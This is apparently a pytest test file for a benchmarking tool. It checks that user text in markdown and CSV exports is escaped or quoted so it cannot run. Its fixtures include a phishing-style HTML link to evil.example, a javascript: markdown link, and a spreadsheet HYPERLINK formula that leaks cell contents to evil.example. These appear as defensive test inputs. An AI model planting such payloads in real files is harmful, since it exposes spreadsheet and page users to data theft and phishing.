"""User text in markdown and CSV exports: names with HTML, markdown links or formulas come out inert."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from perflab.csv_cells import frame_csv, records_csv
from perflab.markdown_text import fence, md_text

LINK = "<a href='https://evil.example/login'>Log in again</a>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Details")'


def test_markdown_text_escapes_tags_links_cells_and_line_breaks():
    assert md_text(LINK) == "&lt;a href='https:\u2060//evil.example/login'&gt;Log in again&lt;/a&gt;"
    assert md_text("[click](javascript:alert(1))") == "\\[click\\](javascript:alert(1))"
    assert md_text("a | b\n# c `d` \\ e & www.x.org f@g.h") == (
        "a \\| b # c \\`d\\` \\\\ e &amp; www\u2060.x.org f\u2060@g.h"
    )
    assert md_text("max-num-seqs 256, tp=2 (Qwen/Qwen3-8B)") == "max-num-seqs 256, tp=2 (Qwen/Qwen3-8B)"


def test_fence_outlasts_backticks_in_the_text():
    assert fence("vllm serve m") == "```"
    assert fence("echo ```` done") == "`````"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_are_written_as_quoted_text(start):
    text = records_csv(["label", "value"], [{"label": start + "1+2", "value": -3.5}])
    assert text.split("\n", 1)[1].startswith(f"\"'{start}")
    assert list(csv.reader(io.StringIO(text, newline="")))[1:] == [["'" + start + "1+2", "-3.5"]]


def test_run_labels_and_headers_with_formulas_in_a_frame():
    frame = pd.DataFrame({"run_label": [FORMULA, "plain"], "tps": [1.5, 2.0], FORMULA: [1, 2]})
    text = frame_csv(frame)
    assert FORMULA.replace('"', '""') not in text.replace("'" + FORMULA.replace('"', '""'), "")
    parsed = pd.read_csv(io.StringIO(text))
    assert list(parsed.columns) == ["run_label", "tps", "'" + FORMULA]
    assert list(parsed["run_label"]) == ["'" + FORMULA, "plain"] and list(parsed["tps"]) == [1.5, 2.0]
